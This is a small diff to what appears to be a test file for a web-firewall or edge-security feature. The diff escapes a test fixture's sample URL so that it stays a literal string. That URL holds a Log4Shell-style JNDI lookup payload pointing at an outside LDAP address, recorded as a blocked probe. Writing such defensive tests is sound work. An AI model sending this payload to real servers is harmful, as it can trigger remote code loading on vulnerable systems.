@@ -384,7 +384,7 @@ describe("a probe refused at the edge", () => {
         policy_outcome: outcome,
         waf_rules: "owasp-crs-v030001-id044228-cve",
         requests: 14,
-        sample_url: "https://shop/?x=${jndi:ldap://203.0.113.45/a}",
+        sample_url: `https://shop/?x=\${jndi:ldap://203.0.113.45/a}`,
         sample_user_agent: "scanner",
         first_seen: at(-2),
         last_seen: at(1),
